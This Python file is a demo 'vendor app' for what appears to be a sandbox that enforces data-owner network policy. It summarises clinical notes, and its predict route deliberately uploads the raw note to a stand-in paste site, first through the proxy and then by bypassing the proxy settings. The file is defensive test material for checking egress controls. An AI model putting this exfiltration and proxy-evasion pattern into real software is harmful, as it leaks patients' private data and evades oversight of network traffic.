"""The demo vendor app: a tiny clinical-notes summariser that streams.

It trusts the sandbox for identity: it reads the verified caller from the
X-Sandbox-Subject header and never sees a bearer token. Its predict route
also reaches out, as real apps do: it fetches model weights from a registry
(which the data owner allows) and then tries to copy the note to a paste
site (which the data owner does not). It uses the proxy settings the sandbox
puts in its environment, like any HTTP client that honours HTTP_PROXY; then,
as a less polite app would, it tries the paste site directly, ignoring them.
"""

from __future__ import annotations

import argparse
import asyncio
import re
from collections import Counter

import aiohttp
from aiohttp import web

_WORD = re.compile(r"[a-z]{4,}")
_SENTENCE = re.compile(r"(?<=[.!?])\s+")
REGISTRY = web.AppKey("registry", str)
PASTE = web.AppKey("paste", str)
_COMMON = frozenset(
    [
        "with",
        "that",
        "this",
        "from",
        "have",
        "were",
        "been",
        "they",
        "their",
        "there",
        "which",
    ]
)


def summarize(text: str, sentences: int = 2) -> list[str]:
    """Extractive summary: the sentences that carry the most frequent words."""
    parts = [part.strip() for part in _SENTENCE.split(text) if part.strip()]
    counts = Counter(w for w in _WORD.findall(text.lower()) if w not in _COMMON)

    def weight(sentence: str) -> int:
        return sum(counts[word] for word in _WORD.findall(sentence.lower()))

    best = sorted(parts, key=weight, reverse=True)[:sentences]
    return [part for part in parts if part in best]


async def summarize_handler(request: web.Request) -> web.StreamResponse:
    note = (await request.text())[:100_000]
    response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
    await response.prepare(request)
    caller = request.headers.get("X-Sandbox-Subject", "anonymous")
    await response.write(f"event: caller\ndata: {caller}\n\n".encode())
    for sentence in summarize(note):
        await response.write(f"data: {sentence}\n\n".encode())
        await asyncio.sleep(0.05)
    await response.write_eof()
    return response


async def predict_handler(request: web.Request) -> web.Response:
    note = await request.read()
    registry, paste = request.app[REGISTRY], request.app[PASTE]
    async with aiohttp.ClientSession(trust_env=True) as outside:
        async with outside.get(
            f"{registry}/weights/{request.match_info['model']}"
        ) as r:
            weights = {"status": r.status, "bytes": len(await r.read())}
        async with outside.post(f"{paste}/upload", data=note) as r:
            leak = {"status": r.status, "answer": (await r.text())[:300]}
    bypass = await _post_directly(f"{paste}/upload", note)
    return web.json_response(
        {"weights": weights, "copy_to_paste_site": leak, "bypassing_proxy": bypass}
    )


async def _post_directly(url: str, body: bytes) -> str:
    """What happened when the app ignored its proxy settings."""
    timeout = aiohttp.ClientTimeout(total=5)
    try:
        async with (
            aiohttp.ClientSession(trust_env=False, timeout=timeout) as direct,
            direct.post(url, data=body) as response,
        ):
            return f"{response.status} - the paste site took the note"
    except aiohttp.ClientConnectorError as exc:
        return f"cannot connect: {exc.os_error.strerror or exc.os_error}"
    except (aiohttp.ClientError, TimeoutError) as exc:
        return f"failed: {exc!r}"


async def health_handler(_: web.Request) -> web.Response:
    return web.json_response({"status": "ok"})


async def admin_handler(_: web.Request) -> web.Response:
    return web.json_response({"users": ["every", "patient", "record"]})


def make_app(registry: str, paste: str) -> web.Application:
    app = web.Application()
    app[REGISTRY], app[PASTE] = registry, paste
    app.router.add_post("/v1/summarize", summarize_handler)
    app.router.add_post("/v1/models/{model}/predict", predict_handler)
    app.router.add_get("/healthz", health_handler)
    app.router.add_get("/admin/users", admin_handler)
    return app


def main() -> None:
    parser = argparse.ArgumentParser(description="demo notes summariser")
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8081)
    parser.add_argument("--registry", default="http://127.0.0.1:8082")
    parser.add_argument("--paste", default="http://127.0.0.1:8083")
    args = parser.parse_args()
    app = make_app(args.registry, args.paste)
    web.run_app(app, host=args.host, port=args.port, print=None)


if __name__ == "__main__":
    main()
